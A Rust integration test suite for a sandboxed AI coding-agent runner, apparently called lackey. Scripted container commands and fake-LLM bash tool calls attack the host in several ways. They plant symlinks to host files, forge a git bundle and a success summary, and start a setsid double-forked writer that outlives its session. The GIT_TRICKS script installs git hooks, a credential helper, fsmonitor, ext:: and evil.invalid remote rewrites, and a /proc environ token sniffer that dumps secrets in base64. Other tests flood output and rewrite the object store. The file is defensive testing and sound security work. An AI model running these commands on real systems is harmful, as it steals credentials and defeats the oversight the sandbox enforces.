//! The host trusts nothing the container wrote: a blueprint `command` step plays the
//! attacker against the real Docker engine, planting links in `/output` that point at
//! files and directories of the host, outside the run folder.

use std::path::{Path, PathBuf};
use std::time::SystemTime;

use crate::support::docker;
use crate::support::{repo, snapshot_filters, TestEnv};

const CANARY: &str = "CANARY-HOST-FILE-5e5e5e5e";

/// A test's host side: a canary file and a canary directory outside the run folder.
struct Attack {
    t: TestEnv,
    artifacts: PathBuf,
    host: PathBuf,
    canary_mtime: SystemTime,
}

impl Attack {
    /// `kill_minion`: the attacker also kills the minion, so the host writes the summary.
    fn new(kill_minion: bool) -> Option<Attack> {
        if !docker::available() {
            return None;
        }
        let mut t = TestEnv::new();
        let host = t.path().join("host");
        std::fs::create_dir_all(host.join("canary_dir")).unwrap();
        std::fs::write(host.join("canary.txt"), CANARY).unwrap();
        std::fs::write(host.join("canary_dir/inside.txt"), CANARY).unwrap();
        let canary_mtime = std::fs::metadata(host.join("canary.txt"))
            .unwrap()
            .modified()
            .unwrap();
        let h = host.display();
        // Links to the canary (to be overwritten), to names that do not exist yet (to
        // be created) and to a directory (to be written into).
        let mut script = format!(
            "#!/bin/bash\ncd /output\n\
             ln -sfn {h}/canary.txt run_summary.json\n\
             ln -sfn {h}/new-summary-tmp run_summary.json.tmp\n\
             ln -sfn {h}/canary.txt minion.log\n\
             ln -sfn {h}/canary_dir diff.patch\n\
             ln -sfn {h}/canary.txt scope.json\n\
             ln -sfn {h}/new-diff-stats diff_stats.txt\n\
             ln -sfn {h}/canary.txt commands.log\n\
             ln -sfn {h}/new-tool-calls tool_calls.log\n\
             ln -sfn {h}/canary_dir transcript.jsonl\n\
             ln -sfn {h}/canary.txt repo.bundle\n\
             ln -sfn {h}/canary.txt report.html\n\
             ln -sfn {h}/new-report report.html.tmp\n"
        );
        if kill_minion {
            script.push_str(
                "for p in /proc/[0-9]*; do\n  \
                 if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '^/usr/local/bin/lackey minion'; then kill -9 ${p#/proc/}; fi\n\
                 done\nsleep 30\n",
            );
        }
        repo::init(
            &t.work().join("project"),
            &[
                ("hello.sh", "echo hello\n"),
                ("attack.sh", &script),
                (
                    ".lackey/blueprints/attack.yaml",
                    "version: 2\nsteps:\n  - {name: attack, type: command, commands: [\"bash attack.sh\"]}\n",
                ),
            ],
        );
        let artifacts = t.path().join("artifacts");
        t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
            .set("LACKEY_IMAGE", docker::test_image())
            .set("LACKEY_BLUEPRINT", "attack");
        Some(Attack {
            t,
            artifacts,
            host,
            canary_mtime,
        })
    }

    fn run_dir(&self) -> PathBuf {
        let dirs: Vec<PathBuf> = std::fs::read_dir(&self.artifacts)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(dirs.len(), 1, "one run folder and nothing else: {dirs:?}");
        dirs[0].clone()
    }

    /// The canaries are as the test made them and nothing appeared beside them.
    fn assert_host_untouched(&self) {
        let names = |dir: &Path| -> Vec<String> {
            let mut n: Vec<String> = std::fs::read_dir(dir)
                .unwrap()
                .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect();
            n.sort();
            n
        };
        assert_eq!(names(&self.host), ["canary.txt", "canary_dir"]);
        assert_eq!(names(&self.host.join("canary_dir")), ["inside.txt"]);
        assert_eq!(
            std::fs::read_to_string(self.host.join("canary.txt")).unwrap(),
            CANARY
        );
        assert_eq!(
            std::fs::read_to_string(self.host.join("canary_dir/inside.txt")).unwrap(),
            CANARY
        );
        let mtime = std::fs::metadata(self.host.join("canary.txt"))
            .unwrap()
            .modified()
            .unwrap();
        assert_eq!(mtime, self.canary_mtime, "the canary file was written");
    }

    /// Every artifact of the set is a regular file holding no canary.
    fn assert_artifacts_are_files(&self, dir: &Path) {
        for name in crate::support::ARTIFACTS {
            let meta = std::fs::symlink_metadata(dir.join(name)).unwrap();
            assert!(
                meta.file_type().is_file(),
                "{name} is {:?}",
                meta.file_type()
            );
            let text = std::fs::read_to_string(dir.join(name)).unwrap();
            assert!(!text.contains(CANARY), "{name} holds the canary");
        }
    }
}

fn summary_of(dir: &Path) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(dir.join("run_summary.json")).unwrap()).unwrap()
}

#[test]
fn links_planted_before_the_minion_is_killed_are_never_followed() {
    let Some(a) = Attack::new(true) else { return };
    let out = a.t.run(&[
        "run",
        "plant links, then kill the minion",
        "--repo",
        "project",
        "--stubs",
    ]);
    out.assert_code(1);
    assert!(out.stdout.contains("outcome:   error"), "{}", out.stdout);
    assert!(!out.stdout.contains(CANARY) && !out.stderr.contains(CANARY));
    a.assert_host_untouched();
    let dir = a.run_dir();
    // The host wrote the summary itself, beside (not through) the planted link.
    let s = summary_of(&dir);
    assert_eq!(s["outcome"], "error");
    assert!(
        s["error"].as_str().unwrap().contains("SIGKILL"),
        "{}",
        s["error"]
    );
    a.assert_artifacts_are_files(&dir);
    // The planted bundle link was refused, not handed to git.
    assert!(
        out.stderr.contains("repo.bundle") && out.stderr.contains("symbolic link"),
        "{}",
        out.stderr
    );

    let id = dir.file_name().unwrap().to_string_lossy().to_string();
    let logs = a.t.run(&["logs", &id]);
    logs.assert_success();
    assert!(!logs.stdout.contains(CANARY));

    // A link planted at the log afterwards (a process left behind, or another local
    // user with the container's uid) is refused by `lackey logs`, not printed.
    std::fs::remove_file(dir.join("minion.log")).unwrap();
    std::os::unix::fs::symlink(a.host.join("canary.txt"), dir.join("minion.log")).unwrap();
    std::fs::remove_file(dir.join("run_summary.json")).unwrap();
    std::os::unix::fs::symlink(a.host.join("canary.txt"), dir.join("run_summary.json")).unwrap();
    let logs = a.t.run(&["logs", &id]);
    logs.assert_code(1);
    assert_eq!(logs.stdout, "");
    assert!(!logs.stderr.contains(CANARY));
    snapshot_filters(&[]).bind(|| insta::assert_snapshot!("logs_refuses_a_link", logs.stderr));
    // `runs` lists the run without reading through the link.
    let runs = a.t.run(&["runs", "--json"]);
    runs.assert_success();
    assert!(!runs.stdout.contains(CANARY));
    assert_eq!(runs.json()["runs"][0]["run_id"], id.as_str());
    a.assert_host_untouched();
}

#[test]
fn links_planted_while_the_minion_runs_on_are_replaced() {
    let Some(a) = Attack::new(false) else { return };
    let out = a.t.run(&[
        "run",
        "plant links and carry on",
        "--repo",
        "project",
        "--stubs",
    ]);
    assert!(
        out.stdout.contains("outcome:"),
        "{}\n{}",
        out.stdout,
        out.stderr
    );
    assert!(!out.stdout.contains(CANARY) && !out.stderr.contains(CANARY));
    a.assert_host_untouched();
    let dir = a.run_dir();
    // The minion's own summary (written by renaming over the link) is the result.
    let s = summary_of(&dir);
    assert_eq!(s["steps"][0]["name"], "attack");
    a.assert_artifacts_are_files(&dir);
    let id = dir.file_name().unwrap().to_string_lossy().to_string();
    let logs = a.t.run(&["logs", &id]);
    assert!(!logs.stdout.contains(CANARY) && !logs.stderr.contains(CANARY));
    a.assert_host_untouched();
}

/// The container forges the run's result: a bundle of its own commit (a workflow
/// file) on the run's branch, a lock that would make the minion's own bundle fail, and
/// a summary saying success whose last commit is the forged one. Killing the minion
/// afterwards or letting it finish, nothing comes back: the host fetches a bundle only
/// from a minion that exited by itself and only when its tip is the last commit the
/// summary names; a success from a killed minion is not believed; and the minion
/// removes any bundle it did not make.
#[test]
fn a_forged_branch_bundle_and_summary_bring_nothing_back() {
    if !docker::available() {
        return;
    }
    for kill in [true, false] {
        let mut t = TestEnv::new();
        let forge = format!(
            "#!/bin/bash\nset -e\n\
             m=$(for p in /proc/[0-9]*; do if tr '\\0' ' ' < $p/cmdline 2>/dev/null | grep -q '^/usr/local/bin/lackey minion'; then echo ${{p#/proc/}}; fi; done | head -1)\n\
             branch=$(sed -n 's/.*on branch `\\([^`]*\\)`.*/\\1/p' /output/minion.log | head -1)\n\
             run=$(sed -n 's/.*\\[minion\\] run \\([^ ]*\\) on branch.*/\\1/p' /output/minion.log | head -1)\n\
             test -n \"$m\" && test -n \"$branch\" && test -n \"$run\"\n\
             git -c safe.directory='*' clone -q /work/repo /tmp/forge\n\
             cd /tmp/forge\n\
             git checkout -q -b \"$branch\"\n\
             mkdir -p .github/workflows && echo pwned > .github/workflows/pwn.yml\n\
             git add -A && git -c user.name=x -c user.email=x@x commit -qm forged\n\
             sha=$(git rev-parse HEAD); base=$(git rev-parse HEAD~1)\n\
             git bundle create -q /output/repo.bundle \"$base..$branch\"\n\
             touch /output/repo.bundle.lock\n\
             printf '{{\"run_id\":\"%s\",\"task\":\"t\",\"outcome\":\"success\",\"runtime\":\"local\",\"branch\":\"%s\",\"base_sha\":\"%s\",\"head_sha\":\"%s\",\"started_at\":\"2026-01-01T00:00:00Z\",\"finished_at\":\"2026-01-01T00:00:01Z\",\"duration_s\":1.0}}\\n' \"$run\" \"$branch\" \"$base\" \"$sha\" > /output/run_summary.json\n\
             {}\n",
            if kill {
                "kill -9 $m; sleep 30"
            } else {
                "true"
            }
        );
        let project = repo::init(
            &t.work().join("project"),
            &[
                ("hello.sh", "echo hello\n"),
                ("forge.sh", &forge),
                (
                    ".lackey/blueprints/forge.yaml",
                    "version: 2\nsteps:\n  - {name: forge, type: command, commands: [\"bash forge.sh\"]}\n",
                ),
            ],
        );
        let artifacts = t.path().join("artifacts");
        t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
            .set("LACKEY_IMAGE", docker::test_image())
            .set("LACKEY_BLUEPRINT", "forge");
        let out = t.run(&["run", "forge the result", "--repo", "project", "--stubs"]);
        let branches = repo::git(&project, &["branch", "--list"]);
        assert!(
            !branches.contains("minion/"),
            "kill={kill}: a forged branch came back: {branches}\n{}\n{}",
            out.stdout,
            out.stderr
        );
        let run = std::fs::read_dir(&artifacts)
            .unwrap()
            .next()
            .unwrap()
            .unwrap()
            .path();
        let s = summary_of(&run);
        // The forger did its part: the planted summary was read (kill) or the step
        // succeeded (no kill).
        let commands = std::fs::read_to_string(run.join("commands.log")).unwrap_or_default();
        if kill {
            assert_eq!(
                s["outcome"],
                "error",
                "{s}\n{commands}\n{}",
                std::fs::read_to_string(run.join("minion.log")).unwrap_or_default()
            );
            out.assert_code(1);
            assert!(
                s["error"].as_str().unwrap().contains("not believed"),
                "{s}\n{commands}\n{}",
                std::fs::read_to_string(run.join("minion.log")).unwrap_or_default()
            );
            assert!(
                out.stderr.contains("did not finish by itself"),
                "{}",
                out.stderr
            );
        } else {
            // The minion finished: its own summary and no bundle (its blueprint makes
            // no branch), the planted ones gone.
            assert_eq!(s["steps"][0]["name"], "forge", "{s}");
            assert_eq!(
                s["steps"][0]["success"], true,
                "the forger failed: {s}\n{commands}"
            );
            assert!(
                !run.join("repo.bundle").exists() && !run.join("repo.bundle.lock").exists(),
                "the planted bundle was left for the host"
            );
            assert!(!out.stderr.contains("was not fetched"), "{}", out.stderr);
        }
    }
}

/// What is not committed stays on the host: the repository goes into the container
/// as a bundle of its commits, never as the work tree, so an untracked `.env` holding
/// a key and a token in `.git/config` are nowhere a command can read.
#[test]
fn uncommitted_files_and_git_config_of_the_host_repository_are_not_in_the_container() {
    if !docker::available() {
        return;
    }
    const ENV_CANARY: &str = "sk-ant-api03-CANARY-dotenv-4b4b4b4b4b4b";
    const CONFIG_CANARY: &str = "ghp_CANARYextraheader7a7a7a7a7a7a7a";
    let mut t = TestEnv::new();
    let project = repo::init(
        &t.work().join("project"),
        &[
            ("hello.sh", "echo hello\n"),
            (
                "look.sh",
                "#!/bin/bash\n\
                 cat /repo/.env /repo/.git/config /work/repo/.env 2>&1 || true\n\
                 git -C /work/repo config --list --show-origin 2>&1 || true\n\
                 grep -rhoas -e 'sk-ant-api03-CANARY-[a-z0-9-]*' -e 'ghp_CANARY[a-z0-9]*' / --exclude-dir=proc --exclude-dir=sys --exclude-dir=output 2>/dev/null | sort -u | head -20 || true\n",
            ),
            (
                ".lackey/blueprints/look.yaml",
                "version: 2\nsteps:\n  - {name: look, type: command, commands: [\"bash look.sh\"]}\n",
            ),
        ],
    );
    std::fs::write(
        project.join(".env"),
        format!("ANTHROPIC_API_KEY={ENV_CANARY}\n"),
    )
    .unwrap();
    repo::git(
        &project,
        &[
            "config",
            "http.https://github.com/.extraheader",
            &format!("AUTHORIZATION: basic {CONFIG_CANARY}"),
        ],
    );
    let artifacts = t.path().join("artifacts");
    t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
        .set("LACKEY_IMAGE", docker::test_image())
        .set("LACKEY_BLUEPRINT", "look");
    let out = t.run(&["run", "look around", "--repo", "project", "--stubs"]);
    let mut places = files_of(&artifacts);
    places.push(("stdout".into(), out.stdout.clone()));
    places.push(("stderr".into(), out.stderr.clone()));
    // The command did run and did look.
    let commands = places
        .iter()
        .find(|(p, _)| p.ends_with("commands.log"))
        .map(|(_, t)| t.clone())
        .unwrap_or_default();
    assert!(commands.contains("look.sh"), "{commands}");
    assert!(commands.contains("/repo/.env"), "{commands}");
    assert_no_secret(&[ENV_CANARY.into(), CONFIG_CANARY.into()], &places);
}

// ---------------------------------------------------------------------------------
// Inside the container: stray processes, the scope at commit time, git config tricks.

const CANARY_KEY: &str = "sk-ant-api03-CANARY-sandbox-9d9d9d9d9d9d9d9d";

/// A secret as an attacker would smuggle it out: as is, reversed, and in base64 at each
/// of the three alignments it can take inside a longer text (without the edge groups,
/// which mix with the neighbouring bytes).
fn encodings(secret: &str) -> Vec<String> {
    use base64::Engine;
    let b64 = base64::engine::general_purpose::STANDARD;
    let mut out = vec![secret.to_string(), secret.chars().rev().collect()];
    for pad in 0..3 {
        let mut bytes = vec![b'x'; pad];
        bytes.extend_from_slice(secret.as_bytes());
        let enc = b64.encode(&bytes);
        let skip = if pad == 0 { 0 } else { 4 };
        out.push(enc[skip..enc.len() - 4].to_string());
    }
    out
}

/// No encoding of any secret in any of the places (base64 is looked for with line
/// breaks removed, as `base64` wraps its lines).
#[track_caller]
fn assert_no_secret(secrets: &[String], places: &[(String, String)]) {
    assert!(!places.is_empty() && !secrets.is_empty());
    for (place, text) in places {
        let unwrapped: String = text.chars().filter(|c| *c != '\n' && *c != '\r').collect();
        for s in secrets {
            for e in encodings(s) {
                assert!(
                    !text.contains(&e) && !unwrapped.contains(&e),
                    "a secret ({}…) leaked into {place}",
                    &s[..10]
                );
            }
        }
    }
}

/// Every file under `dir`, as (path, text).
fn files_of(dir: &Path) -> Vec<(String, String)> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .filter_map(Result::ok)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (
                e.path().display().to_string(),
                String::from_utf8_lossy(&std::fs::read(e.path()).unwrap()).into_owned(),
            )
        })
        .collect()
}

/// The most stray processes one sweep stopped, from minion.log.
fn strays_stopped(log: &str) -> usize {
    log.lines()
        .filter_map(|l| {
            let (head, _) = l.split_once(" stray process(es) stopped")?;
            head.rsplit(' ').next()?.parse().ok()
        })
        .max()
        .unwrap_or(0)
}

fn step<'a>(summary: &'a serde_json::Value, name: &str) -> &'a serde_json::Value {
    summary["steps"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == name)
        .unwrap_or_else(|| panic!("no step `{name}` in {summary:#}"))
}

/// The agent's bash tool starts a writer that leaves its process group and session
/// (`setsid` and a double fork) and keeps writing `.github/workflows/pwn.yml`, outside
/// the scope, after every check. The commit kills it, drops the file and records that;
/// the branch that comes back, the diff and the bundle never hold it.
#[test]
fn a_setsid_writer_outside_the_scope_is_killed_and_its_file_never_committed() {
    use crate::support::fake_llm::{self, FakeLlm};
    use serde_json::json;
    if !docker::available() {
        return;
    }
    let mut t = TestEnv::new();
    let blueprint = r#"version: 2
steps:
  - {name: branch, type: git_branch}
  - {name: scope, type: agent, agent: scoper}
  - {name: execute, type: agent, agent: executor}
  - {name: writer-is-back, type: command, commands: ["while [ ! -e .github/workflows/pwn.yml ]; do sleep 0.05; done"], timeout: 120}
  - {name: commit, type: git_commit, message: "{task_summary}"}
  - {name: writer-is-gone, type: command, commands: ["! grep -qsa '[p]wn-writer' /proc/[0-9]*/cmdline", "test ! -e .github/workflows/pwn.yml"]}
"#;
    let project = t.work().join("project");
    repo::hello_project(&project);
    std::fs::create_dir_all(project.join(".lackey/blueprints")).unwrap();
    std::fs::write(project.join(".lackey/blueprints/writer.yaml"), blueprint).unwrap();
    repo::git(&project, &["add", "-A"]);
    repo::git(&project, &["commit", "-qm", "the writer blueprint"]);
    let base = repo::git(&project, &["rev-parse", "HEAD"])
        .trim()
        .to_string();
    // Double fork: the subshell exits at once, so the writer is orphaned; setsid: it
    // leaves the bash tool's process group and session.
    let writer = "mkdir -p /tmp/w\n\
        ( setsid sh -c 'while :; do mkdir -p .github/workflows; [ -e .github/workflows/pwn.yml ] || echo \"on: push\" > .github/workflows/pwn.yml; echo beat > /tmp/w/beat; sleep 0.05; done # pwn-writer' > /dev/null 2>&1 & )\n\
        while [ ! -e /tmp/w/beat ]; do sleep 0.05; done; echo writer running";
    let llm = FakeLlm::start(
        CANARY_KEY,
        vec![
            fake_llm::scope_hello_sh(),
            fake_llm::tool_use("bash", json!({ "command": writer })),
            fake_llm::tool_use("view", json!({"path": "hello.sh"})),
            fake_llm::edit_hello_sh(),
            fake_llm::tool_use("finish", json!({"summary": "done"})),
        ],
    );
    let artifacts = t.path().join("artifacts");
    t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
        .set("LACKEY_IMAGE", docker::test_image())
        .set("LACKEY_BLUEPRINT", "writer")
        .set("ANTHROPIC_API_KEY", CANARY_KEY)
        .set("ANTHROPIC_BASE_URL", llm.url());
    let out = t.run(&[
        "run",
        "make hello.sh print hello, world",
        "--repo",
        "project",
    ]);
    let dirs: Vec<PathBuf> = std::fs::read_dir(&artifacts)
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    assert_eq!(dirs.len(), 1);
    let dir = &dirs[0];
    let s = summary_of(dir);
    assert_eq!(
        out.code,
        0,
        "{}\n{}\n{s:#}\n{}",
        out.stdout,
        out.stderr,
        std::fs::read_to_string(dir.join("minion.log")).unwrap_or_default()
    );
    llm.assert_clean();
    assert_eq!(s["outcome"], "success");
    // The writer was alive after the checks (it wrote the file again after the
    // executor's revert), and is gone after the commit, its file with it.
    assert_eq!(step(&s, "writer-is-back")["success"], true);
    let dropped = step(&s, "drop-out-of-scope");
    assert!(
        dropped["detail"]
            .as_str()
            .unwrap()
            .contains(".github/workflows/pwn.yml"),
        "{dropped}"
    );
    assert_eq!(step(&s, "writer-is-gone")["success"], true, "{s:#}");
    let log = std::fs::read_to_string(dir.join("minion.log")).unwrap();
    assert!(strays_stopped(&log) > 0, "{log}");
    // The branch brought back holds the change, one commit, and no workflow file.
    let id = dir.file_name().unwrap().to_string_lossy().to_string();
    let branch = format!("minion/{id}");
    let files = repo::git(&project, &["ls-tree", "-r", "--name-only", &branch]);
    assert!(files.contains("hello.sh"), "{files}");
    assert!(!files.contains(".github"), "{files}");
    assert!(repo::git(&project, &["show", &format!("{branch}:hello.sh")]).contains("hello, world"));
    assert_eq!(
        repo::git(
            &project,
            &["rev-list", "--count", &format!("{base}..{branch}")]
        )
        .trim(),
        "1"
    );
    let patch = std::fs::read_to_string(dir.join("diff.patch")).unwrap();
    assert!(
        patch.contains("hello, world") && !patch.contains("pwn.yml"),
        "{patch}"
    );
    let mut places = files_of(dir);
    places.push(("stdout".into(), out.stdout.clone()));
    places.push(("stderr".into(), out.stderr.clone()));
    assert_no_secret(&[CANARY_KEY.to_string()], &places);
}

/// What the agent's bash tool plants in the clone for the test below. Every trick runs
/// `/tmp/leak.sh NAME`, which writes the environment it got (plain, base64, reversed)
/// into the work tree and into `/output`, which a cloud run uploads as it is.
const GIT_TRICKS: &str = r#"set -e
printf '%s\n' '#!/bin/sh' 'n=$1' \
  'for d in /work/repo /output; do env > $d/pwned-$n.env; env | base64 > $d/pwned-$n.b64; env | rev > $d/pwned-$n.rev; done' \
  'if [ "$2" = stdin ]; then cat > /work/repo/pwned-$n.stdin; fi' 'exit 0' > /tmp/leak.sh
chmod +x /tmp/leak.sh
O=$(git remote get-url origin)
for h in pre-commit prepare-commit-msg commit-msg post-commit pre-push reference-transaction post-checkout post-index-change pre-auto-gc; do
  printf '#!/bin/sh\n/tmp/leak.sh hook-%s\n' $h > .git/hooks/$h; chmod +x .git/hooks/$h
done
mkdir -p /tmp/hooks && cp .git/hooks/* /tmp/hooks/
git config core.hooksPath /tmp/hooks
git config core.fsmonitor '/tmp/leak.sh fsmonitor; false #'
git config credential.helper '!/tmp/leak.sh credential stdin'
git config core.sshCommand '/tmp/leak.sh ssh #'
git config url."ssh://git@evil.invalid/app.git".insteadOf "$O"
git config url."ext::/tmp/leak.sh ext".pushInsteadOf "$O"
git config protocol.ext.allow always
git config protocol.ssh.allow always
git config remote.origin.receivepack '/tmp/leak.sh receivepack #'
git config remote.origin.uploadpack '/tmp/leak.sh uploadpack #'
git config filter.pwn.clean '/tmp/leak.sh filter; cat'
git config filter.pwn.smudge '/tmp/leak.sh smudge; cat'
git config diff.pwn.textconv '/tmp/leak.sh textconv; cat'
git config diff.external '/tmp/leak.sh external #'
printf '* filter=pwn diff=pwn\n' > .gitattributes
printf '[core]\n\tfsmonitor = /tmp/leak.sh include; false #\n' > /tmp/evil.cfg
git config include.path /tmp/evil.cfg
( setsid sh -c 'while :; do for e in /proc/[0-9]*/environ; do tr "\0" "\n" < $e 2>/dev/null | grep -a "^LACKEY_GIT_TOKEN="; done > /tmp/found; if [ -s /tmp/found ]; then cp /tmp/found /work/repo/pwned-environ.txt; base64 /tmp/found > /output/pwned-environ.b64; fi; sleep 0.01; done # token-sniffer' > /dev/null 2>&1 & )
echo planted"#;

/// The agent's bash tool plants every git config trick it can in the clone — hooks,
/// `core.fsmonitor`, `core.hooksPath`, a credential helper, `core.sshCommand` with
/// `url.*.insteadOf`, an `ext::` `pushInsteadOf`, `include.path`, a filter driver, a
/// textconv, `diff.external`, `receivepack` — and leaves a process behind that reads
/// every `/proc/*/environ` for the git token. A cloud run (the only kind whose
/// container holds a git token) still commits, pushes and opens its pull request;
/// none of the tricks runs, and no token, key or encoding of them reaches an artifact,
/// the bucket, the logs, the output or the pushed branch.
#[test]
fn git_config_tricks_neither_run_nor_leak_the_token() {
    use crate::support::fake_llm::{self, FakeLlm};
    use serde_json::json;
    let Some(mut c) = crate::cloud::Cloud::new(true) else {
        return;
    };
    let llm = FakeLlm::start(
        crate::cloud::CANARY_KEY,
        vec![
            fake_llm::tool_use(
                "submit_scope",
                json!({"summary": "greeting", "allowed_dirs": ["."], "allowed_files": [], "test_files": [], "rationale": "r"}),
            ),
            fake_llm::tool_use("bash", json!({ "command": GIT_TRICKS })),
            fake_llm::tool_use("view", json!({"path": "hello.sh"})),
            fake_llm::edit_hello_sh(),
            fake_llm::tool_use("finish", json!({"summary": "done"})),
        ],
    );
    c.t.set("ANTHROPIC_BASE_URL", llm.url());
    let out = c.t.run(&[
        "run",
        "make hello.sh print hello, world",
        "--cloud",
        "--pr",
        "--json",
    ]);
    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap_or_default();
    let id = v["run_id"].as_str().unwrap_or_default().to_string();
    let dir = c.run_dir(&id);
    let log = std::fs::read_to_string(dir.join("minion.log")).unwrap_or_default();
    assert_eq!(out.code, 0, "{}\n{}\n{log}", out.stdout, out.stderr);
    llm.assert_clean();
    // The bash call did plant the tricks.
    let commands = std::fs::read_to_string(dir.join("commands.log")).unwrap();
    assert!(commands.contains("planted"), "{commands}");
    // The legitimate work went through: committed, pushed, a pull request.
    let gh = c.github();
    let branch = format!("minion/{id}");
    assert!(gh.branches("acme/app").contains(&branch));
    let bare = gh.bare("acme/app");
    assert!(repo::git(&bare, &["show", &format!("{branch}:hello.sh")]).contains("hello, world"));
    assert_eq!(gh.pulls().len(), 1);
    // The sniffer was there to be stopped.
    assert!(strays_stopped(&log) > 0, "{log}");
    // No trick ran: nothing named pwned in the bucket, the run folder, the pushed
    // branch or the final diff.
    let keys = c.s3_keys("");
    assert!(!keys.is_empty());
    assert!(!keys.iter().any(|k| k.contains("pwned")), "{keys:?}");
    let pushed = repo::git(&bare, &["ls-tree", "-r", "--name-only", &branch]);
    assert!(!pushed.contains("pwned"), "{pushed}");
    for name in ["diff.patch", "diff_stats.txt"] {
        let text = std::fs::read_to_string(dir.join(name)).unwrap();
        assert!(text.contains("hello.sh"), "{name}: {text}");
        assert!(!text.contains("pwned"), "a trick ran: {name}: {text}");
    }
    let mut places = files_of(&dir);
    // No secret, in any encoding, in any of those, nor in the bucket or the pushed tree.
    for k in &keys {
        places.push((format!("s3://{k}"), c.s3_text(k)));
    }
    for f in pushed.lines() {
        places.push((
            format!("{branch}:{f}"),
            repo::git(&bare, &["show", &format!("{branch}:{f}")]),
        ));
    }
    places.push(("stdout".into(), out.stdout.clone()));
    places.push(("stderr".into(), out.stderr.clone()));
    let pem = c.github_key();
    let mut secrets: Vec<String> = gh.tokens();
    assert!(
        secrets.len() >= 2,
        "the CLI and the minion each mint a token"
    );
    secrets.push(crate::cloud::CANARY_KEY.to_string());
    secrets.extend(
        pem.lines()
            .filter(|l| l.len() >= 40 && !l.starts_with("-----"))
            .map(str::to_string),
    );
    assert_no_secret(&secrets, &places);
}

/// A run cannot exhaust the host: a command that floods the container's output (through
/// PID 1's stdout, which the minion does not read) and fills `/output` past
/// `[local] output_limit_mb` is stopped within seconds of crossing it, the run ends in
/// an error naming the limit, and the host kept only a bounded part of the flood.
#[test]
fn a_run_that_floods_its_output_and_fills_its_artifacts_directory_is_stopped() {
    if !docker::available() {
        return;
    }
    let mut t = TestEnv::new();
    let flood = "#!/bin/bash\n\
        (yes 'flooding the container output' > /proc/1/fd/1) 2>/dev/null &\n\
        for i in $(seq 1 64); do head -c 4194304 /dev/urandom > /output/junk.$i; done\n\
        echo filled; sleep 600\n";
    repo::init(
        &t.work().join("project"),
        &[
            ("hello.sh", "echo hello\n"),
            ("flood.sh", flood),
            (
                ".lackey/blueprints/flood.yaml",
                "version: 2\nsteps:\n  - {name: flood, type: command, commands: [\"bash flood.sh\"], timeout: 900}\n",
            ),
        ],
    );
    let artifacts = t.path().join("artifacts");
    t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
        .set("LACKEY_IMAGE", docker::test_image())
        .set("LACKEY_BLUEPRINT", "flood")
        .set("LACKEY_OUTPUT_LIMIT_MB", "64");
    let started = std::time::Instant::now();
    let out = t.run(&[
        "run",
        "flood the host",
        "--repo",
        "project",
        "--stubs",
        "--timeout",
        "600",
    ]);
    let took = started.elapsed();
    out.assert_code(1);
    assert!(
        took < std::time::Duration::from_secs(120),
        "the run went on for {took:?}: {}",
        out.stderr
    );
    let dir = std::fs::read_dir(&artifacts)
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.join("run_summary.json").exists())
        .expect("the run's directory");
    let s = summary_of(&dir);
    assert_eq!(s["outcome"], "error");
    let error = s["error"].as_str().unwrap();
    assert!(
        error.contains("more than 64 MiB") && error.contains("output_limit_mb"),
        "{error}"
    );
    // What the flood left: the junk written before the stop, no more than the limit
    // and one second of writing beyond it.
    let junk: u64 = std::fs::read_dir(&dir)
        .unwrap()
        .map(|e| e.unwrap())
        .filter(|e| e.file_name().to_string_lossy().starts_with("junk."))
        .map(|e| e.metadata().unwrap().len())
        .sum();
    assert!(junk > 64 << 20 && junk <= 256 << 20, "{junk} bytes of junk");
}

/// The agent's bash tool rewrites the object store so that the base commit's tree id
/// names a tree of its own, in which `test.sh` (outside the scope) is a script of its
/// own, and writes that script into the work tree: were the forged tree believed, the
/// file would look unchanged to the scope checks and the commit would carry it. Two
/// layers stop it: git checks a tree's hash when it parses one (`hash mismatch`), and
/// the minion compares each commit with the tree listing it made before anything
/// untrusted ran (undoing the commit on a difference). The run ends in an error and
/// nothing of the forgery reaches the user's repository.
#[test]
fn a_rewritten_object_store_cannot_smuggle_an_out_of_scope_file_into_the_commit() {
    use crate::support::fake_llm::{self, FakeLlm};
    use serde_json::json;
    if !docker::available() {
        return;
    }
    let mut t = TestEnv::new();
    let project = t.work().join("project");
    repo::hello_project(&project);
    let tamper = r#"set -e
T=$(git rev-parse HEAD^{tree})
Y=$(printf '#!/bin/sh\necho PWNED\n' | git hash-object -w --stdin)
T2=$(git ls-tree HEAD | sed "s/$(git rev-parse HEAD:test.sh)/$Y/" | git mktree)
mkdir -p /tmp/packs && mv .git/objects/pack/* /tmp/packs/
for p in /tmp/packs/*.pack; do git unpack-objects -q < "$p"; done
git cat-file tree "$T2" > /tmp/t2
python3 -c "
import sys, zlib, os
t, src = sys.argv[1], open('/tmp/t2', 'rb').read()
path = '.git/objects/%s/%s' % (t[:2], t[2:])
os.chmod(path, 0o644); os.remove(path)
open(path, 'wb').write(zlib.compress(b'tree %d\0' % len(src) + src))
" "$T"
printf '#!/bin/sh\necho PWNED\n' > test.sh
git ls-tree HEAD test.sh
echo tampered"#;
    let llm = FakeLlm::start(
        CANARY_KEY,
        vec![
            fake_llm::scope_hello_sh(),
            fake_llm::tool_use("bash", json!({ "command": tamper })),
            fake_llm::tool_use("view", json!({"path": "hello.sh"})),
            fake_llm::edit_hello_sh(),
            fake_llm::tool_use("finish", json!({"summary": "done"})),
        ],
    );
    let artifacts = t.path().join("artifacts");
    t.set("LACKEY_ARTIFACTS_DIR", artifacts.display().to_string())
        .set("LACKEY_IMAGE", docker::test_image())
        .set("ANTHROPIC_API_KEY", CANARY_KEY)
        .set("ANTHROPIC_BASE_URL", llm.url());
    let out = t.run(&[
        "run",
        "make hello.sh print hello, world",
        "--repo",
        "project",
    ]);
    let dir = std::fs::read_dir(&artifacts)
        .unwrap()
        .map(|e| e.unwrap().path())
        .next()
        .expect("the run's directory");
